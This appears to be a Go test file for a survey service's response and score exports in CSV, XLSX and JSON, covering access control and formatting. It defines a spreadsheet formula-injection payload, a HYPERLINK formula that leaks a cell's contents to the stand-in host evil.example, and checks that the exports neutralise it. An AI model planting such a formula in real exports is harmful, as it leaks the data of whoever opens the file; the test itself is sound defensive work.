@@ -1,0 +1,365 @@
+package api_test
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/xuri/excelize/v2"
+
+	"github.com/customs-survey/surveyd/internal/dbtest"
+)
+
+const exportPath = "/api/v1/campaigns/customs-2023/responses"
+
+// exportColumns are the columns of the responses export of
+// customs_annual.json: three fixed, then every question in order.
+var exportColumns = []string{"response_id", "administration", "submitted_at",
+	"awareness_level", "ees_perf", "ees_union_law", "ees_cooperation", "ees_innovation",
+	"used_outputs", "why_not", "why_not_other", "support_satisfaction", "networking_contacts", "staff_trained", "comments"}
+
+const injection = `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`
+
+// exportWorld submits three responses, a minute apart: FR, then BE's second
+// respondent (later amended, then edited again without submitting), then
+// BE's first, with a multi-choice answer, text that a spreadsheet would run
+// as a formula, and a hidden question left out. It returns the response ids
+// by respondent.
+func exportWorld(e *env) map[string]string {
+	e.t.Helper()
+	e.world()
+	e.submit(e.tokens["resp_fr"], "customs-2023", with(fullAnswers(), "comments", nil, "staff_trained", 3.5))
+	e.advance(time.Minute)
+	e.submit(e.tokens["resp_be2"], "customs-2023", with(fullAnswers(), "ees_perf", "full", "comments", "first"))
+	e.advance(time.Minute)
+	e.submit(e.tokens["resp_be"], "customs-2023", with(fullAnswers(), "used_outputs", "no",
+		"why_not", []string{"other", "no_outputs_yet"}, "why_not_other", "-1 budget", "comments", injection))
+	e.advance(time.Minute)
+	// The amendment is submitted: it is what counts.
+	e.submit(e.tokens["resp_be2"], "customs-2023", with(fullAnswers(), "ees_perf", "none", "comments", "amended"))
+	e.advance(time.Minute)
+	// A pending edit is not exported.
+	e.must(200, "PUT", responsePath, e.tokens["resp_be2"], map[string]any{"answers": with(fullAnswers(), "comments", "pending")})
+	ids := map[string]string{}
+	for _, who := range []string{"resp_be", "resp_be2", "resp_fr"} {
+		ids[who] = e.must(200, "GET", responsePath, e.tokens[who], nil)["id"].(string)
+	}
+	return ids
+}
+
+// exportRow is an expected row of the export, by column; submitted_at is
+// checked separately.
+type exportRow map[string]string
+
+func wantRows(ids map[string]string) []exportRow {
+	base := exportRow{"awareness_level": "basic", "ees_perf": "large", "ees_union_law": "full", "ees_cooperation": "moderate",
+		"ees_innovation": "little", "used_outputs": "yes", "why_not": "", "why_not_other": "", "support_satisfaction": "4",
+		"networking_contacts": "frequently", "staff_trained": "12", "comments": "Useful programme."}
+	row := func(who, adm string, kv ...string) exportRow {
+		r := exportRow{"response_id": ids[who], "administration": adm}
+		for k, v := range base {
+			r[k] = v
+		}
+		for i := 0; i+1 < len(kv); i += 2 {
+			r[kv[i]] = kv[i+1]
+		}
+		return r
+	}
+	return []exportRow{
+		// BE by submission time: resp_be, then resp_be2's amendment.
+		row("resp_be", "BE", "used_outputs", "no", "why_not", "no_outputs_yet;other", "why_not_other", "'-1 budget",
+			"comments", "'"+injection),
+		row("resp_be2", "BE", "ees_perf", "none", "comments", "amended"),
+		row("resp_fr", "FR", "staff_trained", "3.5", "comments", ""),
+	}
+}
+
+// submittedAt is each respondent's latest submission time, from their own
+// response.
+func submittedAt(t *testing.T, e *env) map[string]time.Time {
+	t.Helper()
+	out := map[string]time.Time{}
+	for _, who := range []string{"resp_be", "resp_be2", "resp_fr"} {
+		at, err := time.Parse(time.RFC3339Nano, e.must(200, "GET", responsePath, e.tokens[who], nil)["submitted_at"].(string))
+		if err != nil {
+			t.Fatal(err)
+		}
+		out[who] = at
+	}
+	return out
+}
+
+func checkDownload(t *testing.T, res result, contentType, filename string) {
+	t.Helper()
+	if res.Status != 200 {
+		t.Fatalf("status %d: %s", res.Status, res.Body)
+	}
+	if got := res.Header.Get("Content-Type"); got != contentType {
+		t.Errorf("Content-Type %q, want %q", got, contentType)
+	}
+	if got, want := res.Header.Get("Content-Disposition"), `attachment; filename="`+filename+`"`; got != want {
+		t.Errorf("Content-Disposition %q, want %q", got, want)
+	}
+}
+
+// checkRecords compares exported records (header first) with the wanted
+// rows; cmpTime compares the submitted_at cell with the response's time.
+func checkRecords(t *testing.T, records [][]string, want []exportRow, who []string, cmpTime func(cell, who string) bool) {
+	t.Helper()
+	if len(records) == 0 || !slices.Equal(records[0], exportColumns) {
+		t.Fatalf("header %v, want %v", records[0], exportColumns)
+	}
+	if len(records)-1 != len(want) {
+		t.Fatalf("%d rows, want %d: %v", len(records)-1, len(want), records[1:])
+	}
+	for i, w := range want {
+		rec := records[i+1]
+		for len(rec) < len(exportColumns) {
+			rec = append(rec, "") // readers drop trailing empty cells
+		}
+		for j, col := range exportColumns {
+			if col == "submitted_at" {
+				if !cmpTime(rec[j], who[i]) {
+					t.Errorf("row %d submitted_at %q, want %s's latest submission", i+1, rec[j], who[i])
+				}
+				continue
+			}
+			if rec[j] != w[col] {
+				t.Errorf("row %d %s = %q, want %q", i+1, col, rec[j], w[col])
+			}
+		}
+	}
+}
+
+func TestExportResponses(t *testing.T) {
+	dbtest.Each(t, func(t *testing.T, url string) {
+		e := newEnv(t, url)
+		ids := exportWorld(e)
+		times := submittedAt(t, e)
+		all := wantRows(ids)
+		order := []string{"resp_be", "resp_be2", "resp_fr"}
+		exact := func(cell, who string) bool {
+			// RFC 3339 in UTC with microseconds, of fixed width.
+			at, err := time.Parse(time.RFC3339Nano, cell)
+			return err == nil && at.Equal(times[who].Truncate(time.Microsecond)) &&
+				len(cell) == len("2006-01-02T15:04:05.000000Z") && strings.HasSuffix(cell, "Z")
+		}
+
+		tests := []struct {
+			name, token string
+			want        []exportRow
+			who         []string
+		}{
+			{"admin gets every administration", "admin", all, order},
+			{"a coordinator gets their own administration", "coord_be", all[:2], order[:2]},
+		}
+		for _, tt := range tests {
+			t.Run(tt.name+"/csv", func(t *testing.T) {
+				res := e.request("GET", exportPath+"?format=csv", e.tokens[tt.token], nil)
+				checkDownload(t, res, "text/csv; charset=utf-8", "customs-2023-responses.csv")
+				records, err := csv.NewReader(bytes.NewReader(res.Body)).ReadAll()
+				if err != nil {
+					t.Fatalf("not CSV: %v\n%s", err, res.Body)
+				}
+				checkRecords(t, records, tt.want, tt.who, exact)
+			})
+
+			t.Run(tt.name+"/xlsx", func(t *testing.T) {
+				res := e.request("GET", exportPath+"?format=xlsx", e.tokens[tt.token], nil)
+				checkDownload(t, res, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "customs-2023-responses.xlsx")
+				f, err := excelize.OpenReader(bytes.NewReader(res.Body))
+				if err != nil {
+					t.Fatalf("not a workbook: %v", err)
+				}
+				defer f.Close()
+				if got := f.GetSheetList(); !slices.Equal(got, []string{"Responses"}) {
+					t.Fatalf("sheets %v", got)
+				}
+				rows, err := f.GetRows("Responses")
+				if err != nil {
+					t.Fatal(err)
+				}
+				// submitted_at is a date cell shown to the second.
+				toSecond := func(cell, who string) bool {
+					return cell == times[who].UTC().Format("2006-01-02T15:04:05Z")
+				}
+				checkRecords(t, rows, tt.want, tt.who, toSecond)
+				for i := range tt.want {
+					row := i + 2
+					for _, cell := range []string{"L", "N"} { // support_satisfaction, staff_trained
+						ref := cell + string(rune('0'+row))
+						if typ, _ := f.GetCellType("Responses", ref); typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
+							t.Errorf("%s is of type %v, want a number", ref, typ)
+						}
+					}
+					ref := "O" + string(rune('0'+row))
+					if formula, _ := f.GetCellFormula("Responses", ref); formula != "" {
+						t.Errorf("%s is formula %q", ref, formula)
+					}
+				}
+			})
+
+			t.Run(tt.name+"/json", func(t *testing.T) {
+				res := e.request("GET", exportPath+"?format=json", e.tokens[tt.token], nil)
+				checkDownload(t, res, "application/json; charset=utf-8", "customs-2023-responses.json")
+				var got []struct {
+					ResponseID     string `json:"response_id"`
+					Administration string
+					SubmittedAt    time.Time `json:"submitted_at"`
+					Answers        map[string]any
+				}
+				if err := json.Unmarshal(res.Body, &got); err != nil {
+					t.Fatalf("not a JSON array: %v\n%s", err, res.Body)
+				}
+				if len(got) != len(tt.want) {
+					t.Fatalf("%d elements, want %d", len(got), len(tt.want))
+				}
+				for i, g := range got {
+					w := tt.want[i]
+					if g.ResponseID != w["response_id"] || g.Administration != w["administration"] ||
+						!g.SubmittedAt.Equal(times[tt.who[i]].Truncate(time.Microsecond)) {
+						t.Errorf("element %d: %s %s %s, want %s %s %s", i, g.ResponseID, g.Administration, g.SubmittedAt,
+							w["response_id"], w["administration"], times[tt.who[i]])
+					}
+					if len(g.Answers) != len(exportColumns)-3 {
+						t.Errorf("element %d has %d answers, want one per question: %v", i, len(g.Answers), g.Answers)
+					}
+				}
+				be := got[0].Answers
+				checks := map[string]any{
+					"why_not": []any{"no_outputs_yet", "other"}, "why_not_other": "-1 budget", "comments": injection,
+					"support_satisfaction": float64(4), "staff_trained": float64(12), "ees_perf": "large",
+				}
+				for k, v := range checks {
+					gotJSON, _ := json.Marshal(be[k])
+					wantJSON, _ := json.Marshal(v)
+					if string(gotJSON) != string(wantJSON) {
+						t.Errorf("answers.%s = %s, want %s (verbatim in JSON)", k, gotJSON, wantJSON)
+					}
+				}
+				if v, ok := got[1].Answers["why_not"]; !ok || v != nil {
+					t.Errorf("an unanswered question is %v (present %v), want null", v, ok)
+				}
+				if !bytes.Contains(res.Body, []byte(`"staff_trained":12,`)) {
+					t.Errorf("numbers are not written as submitted: %s", res.Body)
+				}
+			})
+		}
+	})
+}
+
+func TestExportResponsesAccess(t *testing.T) {
+	dbtest.Each(t, func(t *testing.T, url string) {
+		e := newEnv(t, url)
+		e.world()
+		tests := []struct {
+			name, token, path string
+			status            int
+		}{
+			{"another administration's coordinator", "coord_de", exportPath + "?format=csv", 404},
+			{"another administration's coordinator, json", "coord_de", exportPath + "?format=json", 404},
+			{"respondents may not export", "resp_be", exportPath + "?format=csv", 403},
+			{"anonymous", "", exportPath, 401},
+			{"unknown campaign", "admin", "/api/v1/campaigns/nope/responses?format=csv", 404},
+			{"unknown format", "admin", exportPath + "?format=pdf", 406},
+			{"unknown format, coordinator", "coord_be", exportPath + "?format=xls", 406},
+			{"csv by default", "admin", exportPath, 200},
+		}
+		for _, tt := range tests {
+			t.Run(tt.name, func(t *testing.T) {
+				res := e.request("GET", tt.path, e.tokens[tt.token], nil)
+				if res.Status != tt.status {
+					t.Fatalf("status %d, want %d: %s", res.Status, tt.status, res.Body)
+				}
+				if tt.status >= 400 && res.Header.Get("Content-Disposition") != "" {
+					t.Errorf("a problem is sent as an attachment: %q", res.Header.Get("Content-Disposition"))
+				}
+			})
+		}
+
+		// No submission yet: the header alone, and an empty array.
+		res := e.request("GET", exportPath+"?format=csv", e.tokens["admin"], nil)
+		if records, err := csv.NewReader(bytes.NewReader(res.Body)).ReadAll(); err != nil || len(records) != 1 || !slices.Equal(records[0], exportColumns) {
+			t.Errorf("empty CSV export: %v %q", err, res.Body)
+		}
+		res = e.request("GET", exportPath+"?format=json", e.tokens["admin"], nil)
+		var elems []any
+		if err := json.Unmarshal(res.Body, &elems); err != nil || elems == nil || len(elems) != 0 {
+			t.Errorf("empty JSON export: %v %q", err, res.Body)
+		}
+		res = e.request("GET", exportPath+"?format=xlsx", e.tokens["admin"], nil)
+		f, err := excelize.OpenReader(bytes.NewReader(res.Body))
+		if err != nil {
+			t.Fatalf("empty XLSX export: %v", err)
+		}
+		defer f.Close()
+		if rows, _ := f.GetRows("Responses"); len(rows) != 1 || !slices.Equal(rows[0], exportColumns) {
+			t.Errorf("empty XLSX export: %v", rows)
+		}
+	})
+}
+
+func TestScoresExports(t *testing.T) {
+	dbtest.Each(t, func(t *testing.T, url string) {
+		e := newEnv(t, url)
+		exportWorld(e)
+		scoresPath := "/api/v1/campaigns/customs-2023/scores"
+
+		res := e.request("GET", scoresPath+"?format=csv", e.tokens["admin"], nil)
+		checkDownload(t, res, "text/csv; charset=utf-8", "customs-2023-scores.csv")
+		records, err := csv.NewReader(bytes.NewReader(res.Body)).ReadAll()
+		if err != nil {
+			t.Fatalf("not CSV: %v\n%s", err, res.Body)
+		}
+		if records[0][0] != "campaign" || records[0][4] != "level" || records[0][7] != "value" {
+			t.Fatalf("header %v", records[0])
+		}
+		// One row per indicator (10) and breakdown row: OP 3.1 and RES
+		// 3.2.1 by 4 and 6 options, RES 2.2.6 contacts by 6 options and 2
+		// administrations, EES overall by 4 questions and 2 administrations.
+		if got, want := len(records)-1, 10+4+6+6+2+4+2; got != want {
+			t.Errorf("%d rows, want %d", got, want)
+		}
+		byLevel := map[string][]string{}
+		for _, r := range records[1:] {
+			byLevel[r[2]+"|"+r[4]] = r
+		}
+		// RES 3.2.1: BE (75 + 0)/2 = 37.5, FR 75: (37.5 + 75)/2 = 56.25.
+		if r := byLevel["RES 3.2.1|Total"]; r == nil || r[7] != "56.25" || r[8] != "2" {
+			t.Errorf("RES 3.2.1 total: %v", r)
+		}
+		// Administrations of 2 and 1 responses are below min_cell_size 5.
+		if r := byLevel["EES overall|Administration: BE"]; r == nil || r[7] != "" || r[18] != "true" {
+			t.Errorf("EES overall BE: %v", r)
+		}
+
+		res = e.request("GET", scoresPath+"?format=xlsx", e.tokens["admin"], nil)
+		checkDownload(t, res, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "customs-2023-scores.xlsx")
+		f, err := excelize.OpenReader(bytes.NewReader(res.Body))
+		if err != nil {
+			t.Fatalf("not a workbook: %v", err)
+		}
+		defer f.Close()
+		if got := f.GetSheetList(); !slices.Equal(got, []string{"Annex 4", "Breakdowns", "Coverage"}) {
+			t.Errorf("sheets %v", got)
+		}
+		rows, _ := f.GetRows("Breakdowns")
+		if len(rows) != len(records) {
+			t.Errorf("Breakdowns has %d rows, the CSV %d", len(rows), len(records))
+		}
+		if got, _ := f.GetCellValue("Annex 4", "C1"); got != "2023 data" {
+			t.Errorf("Annex 4 C1 = %q", got)
+		}
+
+		for _, tt := range []struct{ token, format string }{{"admin", "pdf"}, {"coord_be", "csv"}} {
+			res := e.request("GET", scoresPath+"?format="+tt.format, e.tokens[tt.token], nil)
+			if want := map[string]int{"admin": 406, "coord_be": 403}[tt.token]; res.Status != want {
+				t.Errorf("%s format=%s: status %d, want %d", tt.token, tt.format, res.Status, want)
+			}
+		}
+	})
+}
